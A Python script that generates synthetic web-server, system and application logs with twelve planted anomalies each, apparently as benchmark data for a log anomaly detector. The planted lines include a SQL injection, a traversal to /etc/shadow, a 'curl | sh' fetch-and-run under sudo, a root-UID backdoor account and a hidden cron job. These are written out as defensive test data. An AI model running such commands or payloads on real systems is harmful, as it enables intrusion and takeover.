"""Generators of logs with planted anomalies, for instead_logs.py: a web server's, a system's and an application's.

    python benchmarks/logs.py web|system|application [--seed 1] [--lines 30000] > app.log

Each makes lines as such a log has them, with a long tail of rare but ordinary ones, and plants one line of each of
twelve kinds of anomaly. Names, addresses and shares depend on the seed.
"""

# ruff: noqa: E501  lines of logs are long

import argparse
import itertools
import json
from collections.abc import Callable
from datetime import datetime, timedelta
from random import Random

Log = tuple[list[str], dict[int, str]]
"""Lines, and the kind of anomaly of those that are planted, by index."""
_SYLLABLES = [
    "ba",
    "co",
    "di",
    "fe",
    "gu",
    "ha",
    "ki",
    "lo",
    "mu",
    "ne",
    "pi",
    "ro",
    "sa",
    "te",
    "vi",
    "wo",
    "za",
    "lin",
    "mar",
    "ton",
    "ser",
    "van",
]
_MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def written(count: int, ordinary: Callable[[], str], anomalies: dict[str, Callable[[], str]], random: Random) -> Log:
    """Write ordinary lines and, well inside the log, one line of each kind of anomaly."""
    places = dict(zip(random.sample(range(count // 20, count), len(anomalies)), anomalies, strict=True))
    return [anomalies[places[index]]() if index in places else ordinary() for index in range(count)], places


def clock(random: Random, begin: datetime, seconds: float) -> Callable[[], datetime]:
    """Return a function that returns a later time at each call, by `seconds` on average."""
    times = itertools.accumulate(iter(lambda: timedelta(seconds=random.expovariate(1 / seconds)), None), initial=begin)
    return lambda: next(times)


def word(random: Random, syllables: int = 2) -> str:
    return "".join(random.choice(_SYLLABLES) for _ in range(syllables))


def tail(random: Random, values: list[str], power: float = 1.1) -> Callable[[], str]:
    """Return a function that draws the k-th value with a share of k to the minus `power`."""
    weights = [(rank + 1) ** -power for rank in range(len(values))]
    return lambda: random.choices(values, weights)[0]


def address(random: Random) -> str:
    return ".".join(str(random.randint(1, 254)) for _ in range(4))


def hexadecimal(random: Random, digits: int) -> str:
    return f"{random.getrandbits(4 * digits):0{digits}x}"


def web(seed: int, count: int) -> Log:
    """Return an access log in the combined format: shop pages, static files, an API, crawlers."""
    random = Random(seed)
    now = clock(random, datetime(2026, 3, 2) + timedelta(seconds=random.randint(0, 10**6)), 3)
    pages = [f"/{word(random)}/{word(random, 3)}" for _ in range(60)]
    static = {f"/static/{word(random)}.{random.choice(['css', 'js', 'png', 'woff2'])}": random.randint(400, 90_000)
              for _ in range(40)}  # fmt: skip
    products, asset, page = (
        [random.randint(100, 9999) for _ in range(400)],
        tail(random, list(static)),
        tail(random, pages),
    )
    agents = [
        f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{major}.0.0.0 Safari/537.36"
        for major in range(118, 127)
        for system in ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64")
    ] + [
        f"Mozilla/5.0 (X11; Linux x86_64; rv:{major}.0) Gecko/20100101 Firefox/{major}.0" for major in range(110, 128)
    ] + ["Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1"]  # fmt: skip
    random.shuffle(agents)
    agent = tail(random, agents)
    bots = ["Googlebot/2.1 (+http://www.google.com/bot.html)", "bingbot/2.0 (+http://www.bing.com/bingbot.htm)",
            "curl/8.5.0", "UptimeRobot/2.0"]  # fmt: skip
    host = f"https://{word(random, 3)}.example"
    referers = ["-", f"{host}/", "https://www.google.com/", *(host + path for path in pages[:20])]
    referer = tail(random, referers)
    visitors = [address(random) for _ in range(900)]

    def line(request: str, status: int, size: int, came: str, by: str, who: str = "", user: str = "-") -> str:
        when = now().strftime("%d/%b/%Y:%H:%M:%S +0000")
        return f'{who or random.choice(visitors)} - {user} [{when}] "{request}" {status} {size} "{came}" "{by}"'

    def ordinary() -> str:
        kind = random.random()
        if kind < 0.35:
            path = asset()
            cached = random.random() < 0.3
            return line(
                f"GET {path} HTTP/1.1", 304 if cached else 200, 0 if cached else static[path], host + page(), agent()
            )
        if kind < 0.6:
            return line(f"GET {page()} HTTP/1.1", 200, random.randint(2000, 40_000), referer(), agent())
        if kind < 0.75:
            path = f"/product?id={random.choice(products)}&ref={hexadecimal(random, 8)}"
            return line(f"GET {path} HTTP/1.1", 200, random.randint(3000, 30_000), referer(), agent())
        if kind < 0.82:
            query = "+".join(word(random) for _ in range(random.randint(1, 3)))
            return line(f"GET /search?q={query} HTTP/1.1", 200, random.randint(2000, 20_000), f"{host}/", agent())
        if kind < 0.9:
            request = f"POST /api/v1/{random.choice(['cart', 'login', 'order'])} HTTP/1.1"
            status = random.choices([200, 201, 400, 401], [60, 20, 2, 8])[0]
            return line(request, status, random.randint(60, 900), host + page(), agent())
        if kind < 0.97:
            return line(f"GET {page()} HTTP/1.1", 200, random.randint(2000, 40_000), "-", random.choice(bots))
        if kind < 0.99:
            return line(f"GET /{word(random, 3)}.html HTTP/1.1", 404, random.randint(300, 330), referer(), agent())
        if kind < 0.995:
            return line(f"GET {page()} HTTP/1.1", 301, 178, "-", agent())
        return line(f"HEAD {page()} HTTP/1.1", 200, 0, "-", "UptimeRobot/2.0")

    fixed = list(static)[3]
    anomalies = {
        "injection": lambda: line("GET /product?id=1%27%20OR%20%271%27=%271 HTTP/1.1", 200, 51_022, "-", agent()),
        "traversal": lambda: line(f"GET /static/../../../../etc/{random.choice(['passwd', 'shadow'])} HTTP/1.1", 400, 312, "-", agent()),
        "scanner": lambda: line(f"GET {page()} HTTP/1.1", 200, 9_120, "-", random.choice(["sqlmap/1.8#stable", "Nikto/2.5.0", "zgrab/0.x"])),
        "method": lambda: line(f"{random.choice(['TRACE', 'PROPFIND', 'DELETE'])} {pages[1]} HTTP/1.1", 405, 310, "-", agent()),
        "status": lambda: line(f"GET {fixed} HTTP/1.1", random.choice([500, 503]), static[fixed], host + page(), agent()),
        "size": lambda: line(f"GET {page()} HTTP/1.1", 200, random.randint(10**9, 10**10), referer(), agent()),
        "truncated": lambda: line(f"GET {page()} HTTP/1.1", 200, 9_120, "-", agent())[: random.randint(50, 80)],
        "binary": lambda: line("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03", 400, 226, "-", "-"),
        "parameter": lambda: line(f"GET /product?id={products[0]}&{random.choice(['debug=true', 'cmd=id'])} HTTP/1.1", 200, 9_001, referer(), agent()),
        "referer": lambda: line(f"GET {page()} HTTP/1.1", 200, 9_120, f"http://{word(random, 4)}-casino.top/win", agent()),
        "wrong agent": lambda: line("POST /api/v1/login HTTP/1.1", 200, 400, host + page(), bots[0]),
        "user": lambda: line(f"GET {page()} HTTP/1.1", 200, 9_120, referer(), agent(), user="admin"),
    }  # fmt: skip
    return written(count, ordinary, anomalies, random)


def system(seed: int, count: int) -> Log:
    """Return a system log: sshd, cron, sudo, the kernel and others."""
    random = Random(seed)
    now = clock(random, datetime(2026, 5, 3) + timedelta(seconds=random.randint(0, 10**6)), 10)
    host = f"{word(random)}-{random.randint(1, 40):02d}"
    users = [word(random, random.randint(2, 3)) for _ in range(40)]
    user, scripts = tail(random, users), [f"/usr/local/bin/{word(random)}.sh" for _ in range(12)]
    guesses = tail(
        random, ["root", "admin", "test", "ubuntu", "oracle", "postgres", "git", *(word(random) for _ in range(80))]
    )
    units = [f"{word(random)}.service" for _ in range(20)]

    def line(process: str, text: str, on: str = "", number: int | None = None) -> str:
        number = random.randint(300, 65_000) if number is None else number
        tagged, time = f"{process}[{number}]" if number else process, now()
        return f"{_MONTHS[time.month - 1]} {time.day:2d} {time:%H:%M:%S} {on or host} {tagged}: {text}"

    def port() -> int:
        return random.randint(1024, 65_535)

    def ordinary() -> str:
        kind = random.random()
        if kind < 0.2:
            return line(
                "sshd", f"Failed password for invalid user {guesses()} from {address(random)} port {port()} ssh2"
            )
        if kind < 0.27:
            return line("sshd", f"Failed password for root from {address(random)} port {port()} ssh2")
        if kind < 0.4:
            return line(
                "sshd",
                f"Connection closed by authenticating user {guesses()} {address(random)} port {port()} [preauth]",
            )
        if kind < 0.5:
            key = "".join(random.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/", k=43))
            return line(
                "sshd",
                f"Accepted publickey for {user()} from 10.0.{random.randint(0, 3)}.{random.randint(2, 250)} port {port()} ssh2: RSA SHA256:{key}",
            )
        if kind < 0.62:
            name = user()
            return line(
                "sshd", f"pam_unix(sshd:session): session {random.choice(['opened', 'closed'])} for user {name}"
            )
        if kind < 0.75:
            return line("CRON", f"(root) CMD ({random.choice(scripts)} >/dev/null 2>&1)")
        if kind < 0.8:
            return line("CRON", "pam_unix(cron:session): session opened for user root by (uid=0)")
        if kind < 0.88:
            return line(
                "systemd", f"{random.choice(['Started', 'Stopped', 'Starting'])} {random.choice(units)}.", number=1
            )
        if kind < 0.93:
            seconds = f"{random.uniform(1e3, 1e6):.6f}"
            return line(
                "kernel",
                f"[{seconds}] [UFW BLOCK] IN=eth0 OUT= SRC={address(random)} DST=10.0.0.4 LEN={random.randint(40, 60)} TTL={random.randint(40, 250)} PROTO=TCP SPT={port()} DPT={port()}",
                number=0,
            )
        if kind < 0.97:
            name = random.choice(users[:6])
            return line(
                "sudo",
                f"{name} : TTY=pts/{random.randint(0, 5)} ; PWD=/home/{name} ; USER=root ; COMMAND=/usr/bin/{random.choice(['apt update', 'systemctl restart nginx', 'journalctl -xe', 'less /var/log/syslog'])}",
                number=0,
            )
        if kind < 0.99:
            return line("dhclient", f"DHCPACK of 10.0.0.4 from 10.0.0.{random.randint(1, 3)}", number=812)
        if kind < 0.998:
            return line(
                "sshd",
                f"Bad protocol version identification '{hexadecimal(random, 12)}' from {address(random)} port {port()}",
            )
        return line("systemd", f"Reached target {word(random, 3)}.", number=1)

    outside, name = address(random), users[2]
    anomalies = {
        "accepted": lambda: line("sshd", f"Accepted password for root from {outside} port {port()} ssh2"),
        "new user": lambda: line("useradd", f"new user: name=sys{word(random)}, UID=0, GID=0, home=/tmp, shell=/bin/bash"),
        "oops": lambda: line("kernel", f"[{random.uniform(1e3, 1e6):.6f}] BUG: unable to handle page fault for address: ffff{hexadecimal(random, 12)}", number=0),
        "sudo": lambda: line("sudo", f"{users[0]} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl http://{outside}/x | sh", number=0),
        "segfault": lambda: line("kernel", f"[{random.uniform(1e3, 1e6):.6f}] nginx[{port()}]: segfault at 0 ip {hexadecimal(random, 16)} error 4 in libc.so.6", number=0),
        "process": lambda: line("sshdd", f"pam_unix(sshd:session): session opened for user {name}"),
        "port": lambda: line("sshd", f"Failed password for root from {address(random)} port {random.choice([0, 7_766_554])} ssh2"),
        "host": lambda: line("sshd", f"pam_unix(sshd:session): session closed for user {name}", on=f"{word(random, 3)}-99"),
        "truncated": lambda: line("sshd", f"Failed password for invalid user {guesses()} from {outside} port {port()} ssh2")[: random.randint(38, 48)],
        "cron": lambda: line("CRON", f"({name}) CMD (/tmp/.{word(random)}/update >/dev/null 2>&1)"),
        "identity": lambda: line("CRON", f"pam_unix(cron:session): session opened for user root by (uid={random.randint(1001, 1040)})"),
        "key type": lambda: line("sshd", f"Accepted publickey for {user()} from {outside} port {port()} ssh2: DSA SHA256:{hexadecimal(random, 43)}"),
    }  # fmt: skip
    return written(count, ordinary, anomalies, random)


def application(seed: int, count: int) -> Log:
    """Return an application's log, each line an object of JSON for odd seeds, else keys and values."""
    random, as_json = Random(seed), bool(seed % 2)
    now = clock(random, datetime(2026, 1, 20) + timedelta(seconds=random.randint(0, 10**6)), 0.3)
    services = [word(random) for _ in range(8)]
    events = {service: [(f"{word(random)} {word(random)} {verb}", random.choices(["info", "debug", "warning"], [8, 3, 1])[0])
                        for verb in random.sample(["done", "started", "saved", "sent", "retried", "found", "skipped", "loaded"], 5)]
              for service in services}  # fmt: skip
    regions, nodes = ["eu-1", "eu-2", "us-1"], [f"node-{hexadecimal(random, 4)}" for _ in range(12)]
    service = tail(random, services, 0.7)

    def line(**fields: object) -> str:
        if as_json:
            return json.dumps(fields)
        parts = (f'{key}="{value}"' if " " in str(value) else f"{key}={value}" for key, value in fields.items())
        return " ".join(parts)

    def fields(own: str = "", event: int | None = None, **others: object) -> dict[str, object]:
        own = own or service()
        text, level = events[own][min(int(random.expovariate(0.6)), 4) if event is None else event]
        about: dict[str, object] = {
            "time": now().isoformat(timespec="milliseconds") + "Z", "level": level, "service": own,
            "node": random.choice(nodes), "region": random.choice(regions), "trace": hexadecimal(random, 16), "msg": text,
            "user": f"u{random.randint(10_000, 99_999)}", "ms": int(random.lognormvariate(3, 1)) + 1,
        }  # fmt: skip
        if random.random() < 0.02:
            about |= {
                "level": "error",
                "error": random.choice(["timeout", "connection reset", "not found"]),
                "retries": random.randint(1, 3),
            }
        if random.random() < 0.1:
            about["cache"] = random.choice(["hit", "miss"])
        return about | others

    first, second = services[:2]
    anomalies = {
        "fatal": lambda: line(**fields(level="fatal", msg="heap exhausted")),
        "missing key": lambda: line(**{key: value for key, value in fields().items() if key != "user"}),
        "nested": lambda: line(**fields(msg="java.lang.NullPointerException at Handler.run(Handler.java:88)")),
        "not a number": lambda: line(**fields(ms=random.choice(["NaN", "-1", "null"]))),
        "service": lambda: line(**{**fields(), "service": word(random, 3)}),
        "wrong service": lambda: line(**{**fields(first, 0), "msg": events[second][1][0]}),
        "slow": lambda: line(**fields(ms=random.randint(10**6, 10**7))),
        "order of keys": lambda: line(**dict(sorted(fields().items(), key=lambda item: item[0] == "level"))),
        "key": lambda: line(**{("servise" if key == "service" else key): value for key, value in fields().items()}),
        "region": lambda: line(**fields(region="ap-9")),
        "identifier": lambda: line(**fields(user=random.choice(["root", "' OR 1=1 --", "admin"]))),
        "truncated": lambda: line(**fields())[: random.randint(60, 120)],
    }
    return written(count, lambda: line(**fields()), anomalies, random)


GENERATORS: dict[str, Callable[[int, int], Log]] = {"web": web, "system": system, "application": application}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=GENERATORS)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--lines", type=int, default=30_000)
    options = parser.parse_args()
    print(*GENERATORS[options.kind](options.seed, options.lines)[0], sep="\n")


if __name__ == "__main__":
    main()
